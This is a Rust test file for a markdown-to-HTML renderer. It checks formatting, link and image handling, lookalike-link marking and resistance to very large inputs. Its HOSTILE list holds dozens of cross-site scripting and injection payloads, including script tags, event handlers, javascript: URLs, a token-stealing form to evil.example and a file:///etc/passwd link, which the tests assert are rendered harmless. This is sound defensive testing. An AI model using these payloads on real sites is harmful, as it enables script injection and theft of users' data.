//! What comes out of honest and of hostile bodies.

use super::render;

#[test]
fn a_word_without_end_may_be_broken_and_is_not_changed() {
    let word = "x".repeat(1000);
    let html = render(&word);
    assert_eq!(html.matches("<wbr>").count(), 8, "{html}");
    assert_eq!(html.replace("<wbr>", "").trim(), format!("<p>{word}</p>"));
    let code = render(&format!("```\n{word}\n```"));
    assert!(!code.contains("<wbr>"), "{code}");
}

#[test]
fn a_table_keeps_its_alignment_and_its_text_is_left_alone() {
    let html =
        render("| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | `<td style=\"text-align: right\">` |");
    for cell in [
        "<th align=\"left\">l</th>",
        "<th align=\"center\">c</th>",
        "<td align=\"center\">2</td>",
    ] {
        assert!(html.contains(cell), "{html}");
    }
    assert!(html.contains("text-align: right"), "{html}");
    assert!(!html.contains("style=\"text-align: left"), "{html}");
}

#[test]
fn markdown_is_shown_as_markdown() {
    let html = render("# Done\n\n**All** ~~bad~~ good, `x`\nnext\n\n- [x] a\n- [ ] b\n\n3. c\n");
    for part in [
        "<h1>Done</h1>",
        "<strong>All</strong> <del>bad</del> good, <code>x</code><br>",
        "<li>☑ a</li>",
        "<li>☐ b</li>",
        "<ol start=\"3\">",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    let table = render("|a|b|\n|-|-:|\n|1|2|");
    assert!(
        table.contains("<td>1</td><td align=\"right\">2</td>"),
        "{table}"
    );
    let code = render("```rust\nlet a = \"<b>\";\n```");
    assert_eq!(
        code.trim(),
        "<pre><code class=\"language-rust\">let a = \"&lt;b&gt;\";\n</code></pre>"
    );
}

#[test]
fn links_say_and_do_the_same() {
    assert_eq!(
        render("[docs](https://example.com/a?b=1)").trim(),
        r#"<p><a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">docs</a></p>"#
    );
    let html = render("See https://example.com/x_(1), or (http://a.example).");
    assert!(
        html.contains(r#"href="https://example.com/x_(1" "#),
        "{html}"
    );
    assert!(html.contains(r#"href="http://a.example" "#), "{html}");
    assert!(html.contains("</a>)."), "{html}");
    for unlinked in [
        "xhttp://a.example",
        "http://",
        "`http://a.example`",
        "    http://a.example",
    ] {
        assert!(!render(unlinked).contains("<a"), "{unlinked}");
    }
}

#[test]
fn images_become_words_that_may_be_asked_for() {
    let html = render("![a *cat*](https://tracker.example/cat.png?a=1&b=\"2)");
    assert_eq!(
        html.trim(),
        r#"<p><span class="image" data-src="https://tracker.example/cat.png?a=1&amp;b=&quot;2">a <em>cat</em></span></p>"#
    );
    let nameless = render("![](https://a.example/x)");
    assert!(nameless.contains(">a.example</span>"), "{nameless}");
    let inside = render("[![a cat](https://tracker.example/c.png)](https://b.example)");
    assert_eq!(inside.matches("<a ").count(), 1, "{inside}");
    assert!(inside.contains("<span class=\"image\""), "{inside}");
    let nested = render("![a ![b](https://b.example) [c](https://c.example)](https://a.example)");
    assert_eq!(nested.matches("<span").count(), 1, "{nested}");
    // Others are what they were: words and an address.
    for other in [
        "http://a.example/x.png",
        "data:image/png;base64,AA",
        "x.png",
        "https://",
    ] {
        let html = render(&format!("![cat]({other})"));
        assert!(!html.contains("<span") && html.contains("cat"), "{html}");
    }
}

#[test]
fn a_link_that_looks_like_another_is_marked() {
    let html =
        render("[https://bank.example](https://evil.example/?a=1&b=\"2) [x](https://b.example)");
    assert!(
        html.contains(r#"<a class="other" href="https://evil.example/?a=1&amp;b=&quot;2" rel="#),
        "{html}"
    );
    assert_eq!(html.matches("other").count(), 1, "{html}");
    let html = render("https://bank.example@evil.example/ and [ba\u{200b}nk](https://b.example)");
    assert_eq!(html.matches("class=\"other\"").count(), 1, "{html}");
    assert!(html.contains("ba⟨U+200B⟩nk"), "{html}");
}

/// Bodies that would do something, were they let.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://tracker.example/p.gif\">",
    "<svg onload=alert(1)><script>1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<form action=https://evil.example><input name=token><button>ok</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p id=app class=toast onclick=alert(1)>x</p>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video><audio src=x></audio>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=https://evil.example ping=https://evil.example target=_top>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](tauri://localhost/)",
    "[x](ipc://localhost/ask)",
    "[x](//evil.example/x)",
    "[x](/index.html)",
    "[x](#app)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](https://evil.example/a.png \"t\\\" onload=\\\"x\")",
    "[a](https://evil.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onload=alert(1)\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x onfocus=alert(1) autofocus tabindex=1>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "\u{0}<script\u{0}>alert(1)</script>",
];

#[test]
fn hostile_bodies_are_inert() {
    for body in HOSTILE {
        let html = render(body);
        for (tag, attributes) in marks(&html) {
            assert!(
                [
                    "p",
                    "br",
                    "hr",
                    "blockquote",
                    "ul",
                    "ol",
                    "li",
                    "pre",
                    "code",
                    "em",
                    "strong",
                    "del",
                    "span",
                    "a",
                    "table",
                    "thead",
                    "tbody",
                    "tr",
                    "th",
                    "td",
                ]
                .contains(&tag.as_str()),
                "{body:?} gave <{tag}>: {html}"
            );
            match tag.as_str() {
                "a" => assert!(
                    attributes.starts_with("href=\"https://evil.example")
                        && attributes.ends_with("\" rel=\"noopener noreferrer nofollow\"")
                        && attributes.matches('"').count() == 4,
                    "{body:?} gave {html}"
                ),
                "span" => assert!(
                    attributes.starts_with("class=\"image\" data-src=\"https://evil.example/")
                        && attributes.matches('"').count() == 4,
                    "{body:?} gave {html}"
                ),
                "code" => assert!(
                    attributes.is_empty() || attributes == "class=\"language-x\"",
                    "{body:?} gave {html}"
                ),
                _ => assert_eq!(attributes, "", "{body:?} gave {html}"),
            }
        }
    }
}

/// The opening marks in cleaned HTML: the cleaner leaves no other `<`.
fn marks(html: &str) -> Vec<(String, String)> {
    html.split('<')
        .skip(1)
        .filter(|mark| !mark.starts_with('/'))
        .map(|mark| {
            let inside = mark.split('>').next().unwrap_or_default();
            let (tag, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
            (tag.to_owned(), attributes.to_owned())
        })
        .collect()
}

#[test]
fn what_was_written_stays_readable() {
    let html = render("before <script>alert(1)</script> after");
    assert!(
        html.contains("before &lt;script&gt;alert(1)&lt;/script&gt; after"),
        "{html}"
    );
}

#[test]
fn text_keeps_its_direction() {
    let html = render("[\u{202e}moc.knab\u{202c}](https://evil.example) \u{2066}x\u{2069}");
    assert!(
        !html.contains(['\u{202e}', '\u{202c}', '\u{2066}', '\u{2069}']),
        "{html}"
    );
    assert!(html.contains("moc.knab"), "{html}");
}

#[test]
fn huge_bodies_are_bounded() {
    let mebi = 1024 * 1024;
    // What makes work grow with the square shows at a part of that already.
    let many = mebi / 4;
    for body in [
        "x".repeat(mebi),
        "> ".repeat(many / 2),
        "- ".repeat(many / 2),
        "*".repeat(many),
        "[".repeat(many),
        "![".repeat(many / 2),
        "<".repeat(many),
        "&".repeat(many),
        "\u{a0}".repeat(many / 2),
        "&lt;".repeat(many / 4),
        "http://".repeat(many / 7),
        "http".repeat(many / 4),
        format!(
            "{}\n{}\n{}",
            "|a".repeat(1000),
            "|-".repeat(1000),
            "|\n".repeat(many / 2)
        ),
    ] {
        let began = std::time::Instant::now();
        let html = render(&body);
        assert!(html.len() < 8 * mebi, "{} bytes", html.len());
        // A guard against work that grows with the square, not a measure of speed.
        assert!(
            began.elapsed().as_secs() < 30,
            "{:?}: {:.9}",
            began.elapsed(),
            body
        );
    }
    assert!(render(&"x".repeat(mebi)).len() >= mebi);
    let bold = format!("<b>&{}", "&".repeat(mebi / 2));
    assert!(render(&bold).starts_with("<pre>&lt;b&gt;&amp;&amp;"));
}

#[test]
fn a_word_made_of_many_marks_has_places_to_break_too() {
    let html = render(&"*_".repeat(1000));
    assert!(html.matches("<wbr>").count() >= 5, "{html}");
    assert!(render(&format!("`{}<`", "x".repeat(500))).contains("<wbr>xx"));
    assert!(render("`a<b`").contains("<code>a&lt;b</code>"));
    // Words that end, in marks or not, are left as they are; so is what stands in a code block.
    let honest = format!(
        "{}\n\n```\n{}\n```",
        "*short* ".repeat(1000),
        "x".repeat(1000)
    );
    assert!(!render(&honest).contains("<wbr>"));
}
